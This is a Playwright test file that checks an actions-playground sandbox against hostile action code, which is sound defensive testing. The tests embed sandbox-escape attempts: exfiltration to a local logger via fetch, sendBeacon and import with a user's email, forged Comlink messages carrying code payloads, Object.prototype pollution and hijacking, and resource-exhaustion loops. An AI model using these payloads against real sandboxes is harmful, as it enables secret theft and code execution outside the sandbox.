/**
 * Action code and links come from strangers: each test here is an action (or a link) that tries to cross
 * the sandbox's boundary, against the built app on a plain static server. For each: the action gets
 * nothing, a local request logger and the app's own server receive nothing, the page runs nothing it did
 * not ship, and the next run is unaffected.
 */
import { readFileSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test, type Page } from '@playwright/test'
import { createDefaultEvent } from '../src/triggers/post-login/defaultEvent.ts'
import type { FlowDocument } from '../src/engine/flowDocument.ts'
import type { ProgressEvent, RunResult } from '../src/engine/index.ts'
import { encodeShareLink } from '../src/engine/shareCodec.ts'
import { REQUEST_LOG } from '../playwright.config.ts'

// Test ids only where nothing visible names the element: `status-banner` carries the outcome as data-status.

function flow(name: string, code: string, secrets: Record<string, string> = {}): FlowDocument {
  return {
    version: 1,
    trigger: 'post-login',
    name,
    actions: [
      { id: 'probe', name: 'Probe', code, enabled: true, secrets },
      { id: 'after', name: 'After', code: 'exports.onExecutePostLogin = async () => {}', enabled: true, secrets: {} },
    ],
    event: createDefaultEvent(),
    mocks: { http: [] },
  }
}

const CLAIM = 'https://example.com/ok'
const innocent = (name: string, secrets: Record<string, string> = {}) =>
  flow(name, `exports.onExecutePostLogin = async (event, api) => { api.idToken.setCustomClaim(${JSON.stringify(CLAIM)}, Object.keys(event.secrets).length) }`, secrets)

const run = (page: Page, doc: FlowDocument, options: { timeLimitMs?: number } = {}) =>
  page.evaluate(([doc, options]) => window.__actionsPlayground!.run(doc, options), [doc, options] as const)

/** A server on another local port that records every request: nothing should ever reach it. */
let logger: Server
let loggerUrl = ''
const logged: string[] = []
test.beforeAll(async () => {
  logger = createServer((request, response) => {
    logged.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' }).end('globalThis.escaped = true; export const escaped = true')
  })
  await new Promise<void>((resolve) => logger.listen(0, '127.0.0.1', resolve))
  loggerUrl = `http://127.0.0.1:${(logger.address() as AddressInfo).port}`
})
test.afterAll(() => new Promise<void>((resolve) => logger.close(() => resolve())))
test.beforeEach(() => {
  logged.length = 0
  writeFileSync(REQUEST_LOG, '')
})

/** What reached the app's own server that no page of the app asks for. */
/** Requests that carried the probes' markers; the app's own chunks (SecretsPanel-….js) are not such requests. */
const exfiltrated = () => readFileSync(REQUEST_LOG, 'utf8').split('\n').filter((line) => /exfil|secret/i.test(line) && !/^GET \/assets\/[\w-]+\.js$/.test(line))

/** Markers an attack that ran code in the page would leave. */
async function pageUntouched(page: Page) {
  const state = await page.evaluate(() => ({
    pwned: (window as unknown as { pwned?: unknown }).pwned ?? null,
    title: document.title,
    polluted: ({} as Record<string, unknown>).polluted ?? null,
    storage: localStorage.getItem('pwned'),
  }))
  expect(state).toEqual({ pwned: null, title: 'Actions Playground', polluted: null, storage: null })
}

async function openApp(page: Page) {
  await page.goto('/?example=roles-into-tokens')
  await expect(page.locator('[data-testid^="action-node-"]')).toHaveCount(1)
}

const probes = (result: RunResult) => result.idToken?.customClaims['https://example.com/probes'] as Record<string, unknown>

test('the network, storage, other threads and the page are out of reach of action code', async ({ page }) => {
  await openApp(page)
  const assets = await page.evaluate(() => [...document.scripts].map((script) => script.src).filter(Boolean))
  const code = `
exports.onExecutePostLogin = async (event, api) => {
  const probes = {}
  const attempt = async (label, escape) => {
    try { probes[label] = 'GOT ' + Object.prototype.toString.call(await escape()) }
    catch (error) { probes[label] = 'error: ' + String(error && error.message).slice(0, 80) }
  }
  const logger = ${JSON.stringify(loggerUrl)}
  await attempt('fetch', () => fetch(logger + '/fetch'))
  await attempt('XMLHttpRequest', () => { const xhr = new XMLHttpRequest(); xhr.open('GET', logger + '/xhr'); xhr.send(); return xhr })
  await attempt('WebSocket', () => new WebSocket(logger.replace('http', 'ws') + '/socket'))
  await attempt('EventSource', () => new EventSource(logger + '/events'))
  await attempt('importScripts', () => importScripts(logger + '/classic.js'))
  await attempt('Worker', () => new Worker(logger + '/worker.js'))
  await attempt('indexedDB', () => indexedDB.open('playground'))
  await attempt('caches', () => caches.open('playground'))
  await attempt('BroadcastChannel', () => new BroadcastChannel('playground'))
  await attempt('sendBeacon', () => navigator.sendBeacon(logger + '/beacon', 'secret'))
  await attempt('import other port', () => import(logger + '/module.js'))
  await attempt('import data', () => import('data:text/javascript,globalThis.escaped = true'))
  await attempt('import blob', () => import(URL.createObjectURL(new Blob(['globalThis.escaped = true'], { type: 'text/javascript' }))))
  await attempt('import own assets', () => import(${JSON.stringify(assets[0])} + '?exfil=' + event.user.email))
  await attempt('localStorage', () => localStorage.getItem('actions-playground:index'))
  await attempt('document', () => document.cookie)
  await attempt('parent', () => parent.document)
  await attempt('constructor route', () => api.constructor.constructor('return typeof document + typeof window + typeof localStorage')())
  await attempt('new Function', () => new Function('return self.origin')())
  probes.escaped = globalThis.escaped === true
  api.idToken.setCustomClaim('https://example.com/probes', probes)
}`
  const result = await run(page, flow('hostile', code))
  expect(result.status, JSON.stringify(result.error)).toBe('completed')
  const got = probes(result)
  for (const [name, outcome] of Object.entries(got)) {
    if (name === 'escaped') continue
    // What looks like a success gives nothing: code built from strings sees only the sandbox's own realm.
    if (name === 'constructor route') expect(outcome, name).toBe('GOT [object String]')
    else if (name === 'new Function') expect(outcome, name).toBe('GOT [object String]')
    else expect(outcome, name).toMatch(/^error: /)
  }
  expect(got.escaped).toBe(false)
  expect(logged).toEqual([])
  expect(exfiltrated()).toEqual([])
  await pageUntouched(page)
})

test('code built from strings in the sandbox sees only the sandbox: no window, no document, no storage, an opaque origin', async ({ page }) => {
  await openApp(page)
  const result = await run(page, flow('realm', `exports.onExecutePostLogin = async (event, api) => {
    const look = api.constructor.constructor('return [typeof window, typeof document, typeof localStorage, typeof parent, self.origin, self.isSecureContext].join(" ")')
    api.idToken.setCustomClaim('https://example.com/probes', { look: look() })
  }`))
  expect(probes(result).look).toBe('undefined undefined undefined undefined null false')
})

test('forged messages to the page run nothing there (the Comlink attack on the port the page used to expose)', async ({ page }) => {
  await openApp(page)
  // The attack, built from its description: catch every port and channel the realm can reach, and send
  // Comlink CONSTRUCT/APPLY/SET messages that would build and call `new Function(<attacker's code>)` or
  // pollute Object.prototype on the other side.
  const attack = `
exports.onExecutePostLogin = async (event, api) => {
  const payload = 'window.pwned = true; document.title = "pwned"; localStorage.setItem("pwned", "yes")'
  const messages = [
    { id: 'x1', type: 'CONSTRUCT', path: ['Function'], argumentList: [{ type: 'RAW', value: payload }] },
    { id: 'x2', type: 'APPLY', path: [], argumentList: [{ type: 'RAW', value: payload }] },
    { id: 'x3', type: 'SET', path: ['__proto__', '__proto__', 'polluted'], value: { type: 'RAW', value: true } },
    { type: 'result', result: { status: 'completed', __proto__: { polluted: true } } },
    { type: 'progress', events: [{ type: 'timeline', entry: { __proto__: { polluted: true } } }] },
  ]
  // Progress packed as the engine sends it (JSON text, compressed when large), forged.
  const text = '[{"type":"timeline","entry":{"__proto__":{"polluted":true}}}]'
  const deflated = new Uint8Array(await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'))).arrayBuffer())
  messages.push({ type: 'progress', events: { json: text } }, { type: 'progress', events: { deflated, size: text.length } })
  const captured = new Set()
  const original = MessagePort.prototype.postMessage
  MessagePort.prototype.postMessage = function (...args) { captured.add(this); return original.apply(this, args) }
  const channel = new MessageChannel()
  captured.add(channel.port1)
  for (const message of messages) {
    self.postMessage(message)
    for (const port of [...captured]) try { port.postMessage(message) } catch {}
    try { self.postMessage(message, [new MessageChannel().port2]) } catch {}
  }
}`
  const result = await run(page, flow('comlink', attack))
  // The forged messages were data the page does not act on; the forged result is not a run result, so the
  // run ends there as failed.
  expect(result.status).toBe('failed')
  expect(result.error?.description).toContain('the sandbox sent a result the page cannot read')
  await pageUntouched(page)
  const next = await run(page, innocent('next'))
  expect(next.idToken?.customClaims[CLAIM]).toBe(0)
})

test('a run cannot see, hijack or break the next run of another playground', async ({ page }) => {
  await openApp(page)
  const spy = `
exports.onExecutePostLogin = async (event, api) => {
  // Listen for the next run's request (its secrets) and answer it with a forged result.
  self.addEventListener('message', (message) => self.postMessage({ type: 'result', result: { ...message.data, stolen: true } }))
  // Hijack every later handler through Object.prototype.
  Object.defineProperty(Object.prototype, 'onExecutePostLogin', { configurable: true, get() { return async (e, a) => a.access.deny('hijacked') }, set() {} })
  // Leave timers behind: one that loops, one that keeps sending.
  setTimeout(() => { while (true) {} }, 500)
  setInterval(() => self.postMessage({ type: 'progress', events: [{ type: 'timeline', entry: { kind: 'stolen' } }] }), 10)
}`
  // Within its own run the hijack works, as it would in one Node realm; the next run is another realm.
  const first = await run(page, flow('spy', spy))
  expect(first.error?.description).toBe('hijacked')
  await page.waitForTimeout(700)
  const second = await run(page, innocent('the next playground', { API_KEY: 'secret-value-of-the-next-run' }))
  expect(second.status, JSON.stringify(second.error)).toBe('completed')
  expect(second.idToken?.customClaims[CLAIM]).toBe(1)
  expect(JSON.stringify(second)).not.toContain('stolen')
  expect(JSON.stringify(second)).not.toContain('hijacked')
  expect(second.timeline.some((entry) => (entry as { kind?: string }).kind === 'stolen')).toBe(false)
  await pageUntouched(page)
})

test('axios is fetched by the page only for a flow whose code names it, once, and works in the sandbox', async ({ page }) => {
  await openApp(page)
  const axiosFetches = () => readFileSync(REQUEST_LOG, 'utf8').split('\n').filter((line) => /\/assets\/axios-[\w-]+\.cjs/.test(line))
  expect((await run(page, innocent('no axios'))).status).toBe('completed')
  expect(axiosFetches()).toEqual([])

  const doc = flow('axios', `const axios = require('axios')
exports.onExecutePostLogin = async (event, api) => {
  const { data, statusText } = await axios.get('https://api.test/plan', { params: { ids: [1, 2] } })
  api.idToken.setCustomClaim('https://example.com/plan', data.plan + ' ' + statusText + ' ' + axios.getUri({ url: '/x', params: { a: 1 } }))
}`)
  doc.mocks.http.push({ method: 'GET', url: 'https://api.test/plan?*', status: 200, body: { plan: 'gold' }, headers: {} })
  for (let i = 0; i < 2; i++) {
    const result = await run(page, doc)
    expect(result.status, JSON.stringify(result.error)).toBe('completed')
    expect(result.idToken?.customClaims['https://example.com/plan']).toBe('gold OK /x?a=1')
    expect(result.http[0].url).toBe('https://api.test/plan?ids%5B%5D=1&ids%5B%5D=2')
  }
  expect(axiosFetches()).toHaveLength(1)
})

test('a shared link with a hostile action, opened and run in the app, runs nothing in the page', async ({ page }) => {
  const code = `exports.onExecutePostLogin = async (event, api) => {
    try { parent.postMessage({ type: 'ready' }, '*') } catch {}
    try { top.location = 'https://example.com/' } catch {}
    api.idToken.setCustomClaim('https://example.com/probes', { tried: true })
  }`
  await page.goto(`/#${encodeShareLink(flow('A hostile link', code))}`)
  await expect(page.getByText('This flow came from a link')).toBeVisible()
  await page.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(page.getByTestId('status-banner')).toHaveAttribute('data-status', 'completed', { timeout: 25_000 })
  expect(page.url()).toContain('127.0.0.1')
  await pageUntouched(page)
})

test('an endless loop ends at the time limit without freezing the page, and the next run completes', async ({ page }) => {
  await openApp(page)
  type TestWindow = { __pending?: Promise<RunResult>; __events?: ProgressEvent[]; __clicks?: number }
  await page.evaluate((doc) => {
    const w = window as unknown as TestWindow
    w.__events = []
    w.__clicks = 0
    document.addEventListener('click', () => { w.__clicks!++ })
    w.__pending = window.__actionsPlayground!.run(doc, { timeLimitMs: 1500, onProgress: (event) => w.__events!.push(event) })
  }, flow('loop', 'exports.onExecutePostLogin = async () => { console.log("about to loop"); while (true) {} }'))
  await page.waitForFunction(() => (window as unknown as TestWindow).__events!.some((event) => event.type === 'action' && event.status === 'running'))
  // The loop is running in the sandbox: the page still takes input and renders frames.
  await page.getByRole('heading', { name: 'Actions Playground' }).click()
  expect(await page.evaluate(() => new Promise<boolean>((resolve) => requestAnimationFrame(() => resolve(true))))).toBe(true)
  expect(await page.evaluate(() => (window as unknown as TestWindow).__clicks)).toBe(1)

  const result = await page.evaluate(() => (window as unknown as TestWindow).__pending!)
  expect(result.status).toBe('failed')
  expect(result.error).toEqual({ code: 'access_denied', description: 'Request to Webtask exceeded allowed execution time', timeout: true, action: 'Probe' })
  expect(result.actions.map((action) => action.status)).toEqual(['failed', 'skipped'])
  expect(result.actions[0].logs.map((log) => log.message)).toEqual(['about to loop'])
  const next = await run(page, innocent('after the loop'))
  expect(next.status).toBe('completed')
})

test('a rejection nobody handles fails the run, as in Node, and the next run completes', async ({ page }) => {
  await openApp(page)
  const result = await run(page, flow('unhandled', 'exports.onExecutePostLogin = async () => { Promise.reject(new Error("nobody handles me")); await new Promise((resolve) => setTimeout(resolve, 50)) }'))
  expect(result.status).toBe('failed')
  expect(result.error).toEqual({ code: 'access_denied', description: 'The engine worker crashed while the flow was running: Uncaught Error: nobody handles me', action: 'Probe' })
  expect(result.actions.map((action) => action.status)).toEqual(['failed', 'skipped'])
  expect((await run(page, innocent('after the crash'))).status).toBe('completed')
})

test('an action that eats memory ends its run with a clear message; the page survives and the next run works', async ({ page }) => {
  test.setTimeout(120_000)
  await openApp(page)
  // Playwright declares the whole page crashed when the sandbox's process (an out-of-process iframe) dies,
  // although the page lives on: from here the test talks to the page over its own DevTools session.
  const devtools = await page.context().newCDPSession(page)
  const evaluate = async (expression: string) => (await devtools.send('Runtime.evaluate', { expression, awaitPromise: true, returnByValue: true })).result.value
  const hoard = flow('hoard', 'exports.onExecutePostLogin = async () => { const hoard = []; while (true) hoard.push(new Array(1e6).fill(Math.random())) }')
  const result = JSON.parse(await evaluate(`window.__actionsPlayground.run(${JSON.stringify(hoard)}).then((result) => JSON.stringify(result))`)) as RunResult
  expect(result.status).toBe('failed')
  // Chromium 156.0.8078.114 on a 24 GiB machine kept the hoarding worker alive (its sandbox's heartbeat never
  // stopped) until the time limit ended the run; earlier builds lost the sandbox's process, named here.
  expect(result.error?.description).toMatch(/out of memory|exceeded allowed execution time/)
  expect(result.actions[0].status).toBe('failed')
  expect(await evaluate("document.querySelector('h1').textContent + ' ' + String(window.pwned ?? null)")).toBe('Actions Playground null')
  const next = await evaluate(`window.__actionsPlayground.run(${JSON.stringify(innocent('after the hoard'))}).then((result) => result.status)`)
  expect(next).toBe('completed')
})
